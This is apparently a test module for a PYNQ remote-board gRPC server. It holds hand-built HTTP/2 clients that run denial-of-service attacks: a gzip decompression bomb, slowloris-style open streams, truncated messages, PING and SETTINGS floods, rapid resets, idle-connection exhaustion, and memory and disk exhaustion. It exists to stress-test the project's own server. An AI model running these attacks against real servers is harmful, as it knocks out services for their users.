"""Clients that mean no good, for the test of the virtual board's server.

They speak HTTP/2 by frames of their own, since no gRPC library lets its user do what they do.

    python -m tests.attacks NAME ADDRESS PORT     attacks until its standard input ends
"""

from __future__ import annotations

import functools
import itertools
import socket
import struct
import sys
import threading
import zlib
from collections.abc import Callable
from contextlib import suppress

from pynq.remote import buffer_pb2, remote_device_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
INITIAL_WINDOW = 4
END_STREAM, ACK, END_HEADERS = 1, 1, 4
FRAME_BYTES = 16 << 10
MESSAGE_BYTES = 4 << 20  # the largest that gRPC takes
READ, WRITE_FILE = "/mmio.Mmio/read", "/remote_device.RemoteDevice/writefile"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def message(data: bytes, compressed: bool = False) -> bytes:
    return struct.pack(">BI", compressed, len(data)) + data


@functools.cache
def bomb() -> bytes:
    """1 GiB of zeros, which gzip makes 1 MB."""
    packer = zlib.compressobj(9, wbits=31)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(1 << 10)) + packer.flush()


class Connection:
    """An HTTP/2 connection, as a context manager, that heeds the limits of the other side."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.socket = socket.create_connection(address, timeout=5)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self._streams = itertools.count(1, 2)
        self._windows = {0: 65535}
        self._initial_window = 65535
        self._read = b""
        self.last = b""  # payload of the last DATA

    def __enter__(self) -> Connection:
        return self

    def __exit__(self, *_) -> None:
        self.socket.close()

    def call(self, path: str, **further: str) -> int:
        """Begin a call; its stream."""
        stream = next(self._streams)
        fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "board"}
        fields |= {"te": "trailers", "content-type": "application/grpc"}
        fields |= {name.replace("_", "-"): value for name, value in further.items()}
        block = b"".join(
            bytes((0, len(name))) + name.encode() + bytes((len(value),)) + value.encode()
            for name, value in fields.items()
        )
        self.socket.sendall(frame(HEADERS, END_HEADERS, stream, block))
        self._windows[stream] = self._initial_window
        return stream

    def send(self, stream: int, data: bytes, end: bool = False) -> None:
        """As fast as the windows allow. Raises OSError, which a time-out is too."""
        while data:
            size = min(len(data), FRAME_BYTES, self._windows[0], self._windows[stream])
            if size <= 0:
                self.receive()
                continue
            self.socket.sendall(frame(DATA, end and size == len(data), stream, data[:size]))
            self._windows[0] -= size
            self._windows[stream] -= size
            data = data[size:]

    def receive(self) -> tuple[int, int, int]:
        """Kind, flags and stream of the next frame, whose windows count from now on."""
        head = self._take(9)
        kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
        payload = self._take(int.from_bytes(head[:3], "big"))
        if kind == WINDOW_UPDATE:
            self._windows[stream] = self._windows.get(stream, 0) + int.from_bytes(payload, "big")
        elif kind == DATA:
            self.last = payload
        elif kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == INITIAL_WINDOW:
                    change, self._initial_window = value - self._initial_window, value
                    for known in self._windows.keys() - {0}:
                        self._windows[known] += change
            self.socket.sendall(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.socket.sendall(frame(PING, ACK, 0, payload))
        return kind, flags, stream

    def wait_for(self, kind: int) -> None:
        """Until a frame of this kind has come. Raises OSError."""
        while self.receive()[0] != kind:
            pass

    def wait_for_end(self, stream: int) -> None:
        """Until the other side has ended a call. Raises OSError."""
        while True:
            kind, flags, of = self.receive()
            if of == stream and (kind == RST_STREAM or (flags & END_STREAM and kind == HEADERS)):
                return

    def _take(self, size: int) -> bytes:
        while len(self._read) < size:
            received = self.socket.recv(1 << 16)
            if not received:
                raise ConnectionError("closed")
            self._read += received
        taken, self._read = self._read[:size], self._read[size:]
        return taken


# ------------------------------------------------------------------------------- the attacks
#
# Each does one thing on one connection until the connection fails or `stop` is set; the function
# that it is in starts several of them.

Address = tuple[str, int]


def bombs(address: Address, stop: threading.Event) -> None:
    """Calls whose message of 1 MB becomes 1 GiB."""
    packed = message(bomb(), compressed=True)

    def attack(connection: Connection) -> None:
        stream = connection.call(READ, grpc_encoding="gzip")
        connection.send(stream, packed, end=True)
        connection.wait_for_end(stream)

    _repeat(2, attack, address, stop)


def empty_messages(address: Address, stop: threading.Event) -> None:
    """Streams that stay open by a message without data every 5 s."""
    request = remote_device_pb2.WriteFileRequest(file_path="/tmp/empty").SerializeToString()

    def attack(connection: Connection) -> None:
        streams = [connection.call(WRITE_FILE) for _ in range(4)]
        while not stop.is_set():
            for stream in streams:
                connection.send(stream, message(request))
            stop.wait(5)

    _repeat(4, attack, address, stop)


def no_messages(address: Address, stop: threading.Event) -> None:
    """Calls that never send their message, of methods that want one."""

    def attack(connection: Connection) -> None:
        for _ in range(8):
            connection.call(READ)
        stop.wait()

    _repeat(8, attack, address, stop)


def half_messages(address: Address, stop: threading.Event) -> None:
    """Messages of 4 MiB whose last byte does not come."""
    start = message(bytes(MESSAGE_BYTES))[:-1]

    def attack(connection: Connection) -> None:
        for path in (READ, WRITE_FILE) * 2:
            connection.send(connection.call(path), start)
        stop.wait()

    _repeat(64, attack, address, stop)


def undecodable_messages(address: Address, stop: threading.Event) -> None:
    """Messages that are no protobuf, one after the other."""

    def attack(connection: Connection) -> None:
        while not stop.is_set():
            for path in (READ, WRITE_FILE):
                stream = connection.call(path)
                connection.send(stream, message(b"\xff" * 50), end=True)
                connection.wait_for_end(stream)

    _repeat(2, attack, address, stop)


def unread_pings(address: Address, stop: threading.Event) -> None:
    """PING and SETTINGS, whose answers are not read."""
    flood = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 500

    def attack(connection: Connection) -> None:
        while not stop.is_set():
            connection.socket.sendall(flood)

    _repeat(4, attack, address, stop)


def resets(address: Address, stop: threading.Event) -> None:
    """Calls that are reset at once."""

    def attack(connection: Connection) -> None:
        while not stop.is_set():
            stream = connection.call(READ)
            connection.socket.sendall(frame(RST_STREAM, 0, stream, bytes(4)))

    _repeat(2, attack, address, stop)


def connections(address: Address, stop: threading.Event) -> None:
    """Many connections that say nothing, or nothing more than that they speak HTTP/2."""
    idle = []
    while not stop.is_set() and len(idle) < 900:
        with suppress(OSError):
            connection = socket.create_connection(address, timeout=1)
            idle.append(connection)
            if len(idle) % 2:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    stop.wait()


def unread_buffers(address: Address, stop: threading.Event) -> None:
    """Half of the memory is allocated, and read by calls that take nothing of it."""
    size = buffer_pb2.AllocateRequest(size=16 << 20).SerializeToString()

    def attack(connection: Connection) -> None:
        stream = connection.call("/buffer.RemoteBuffer/allocate")
        connection.send(stream, message(size), end=True)
        connection.wait_for_end(stream)
        buffer = buffer_pb2.AllocateResponse.FromString(connection.last[5:])
        read = buffer_pb2.BufferReadRequest(buffer_id=buffer.buffer_id).SerializeToString()
        for _ in range(8):
            stream = connection.call("/buffer.RemoteBuffer/read")
            connection.send(stream, message(read), end=True)
        stop.wait()

    _repeat(2, attack, address, stop)


def large_files(address: Address, stop: threading.Event) -> None:
    """Files of the largest size, as many at a time as go."""
    numbers = itertools.count()

    def attack(connection: Connection) -> None:
        stream = connection.call(WRITE_FILE)
        part = remote_device_pb2.WriteFileRequest(
            file_path=f"/tmp/{next(numbers)}", data=bytes(MESSAGE_BYTES - 64)
        ).SerializeToString()
        for i in range(8):
            connection.send(stream, message(part), end=i == 7)
        connection.wait_for_end(stream)

    _repeat(16, attack, address, stop)


ATTACKS: tuple[Callable[[Address, threading.Event], None], ...] = (
    bombs,
    empty_messages,
    no_messages,
    half_messages,
    undecodable_messages,
    unread_pings,
    resets,
    connections,
    unread_buffers,
    large_files,
)


def _repeat(
    n: int, attack: Callable[[Connection], None], address: Address, stop: threading.Event
) -> None:
    """`attack` by n connections at once, each again and again."""

    def again() -> None:
        while not stop.is_set():
            with suppress(OSError), Connection(address) as connection:
                attack(connection)
            stop.wait(0.01)

    for _ in range(n):
        threading.Thread(target=again, daemon=True).start()


def main() -> None:
    name, host, port = sys.argv[1:]
    stop = threading.Event()
    chosen = [attack for attack in ATTACKS if name in ("all", attack.__name__)]
    if bombs in chosen:
        bomb()
    print("ready", flush=True)
    for attack in chosen:
        threading.Thread(target=attack, args=((host, int(port)), stop), daemon=True).start()
    sys.stdin.read()


if __name__ == "__main__":
    main()
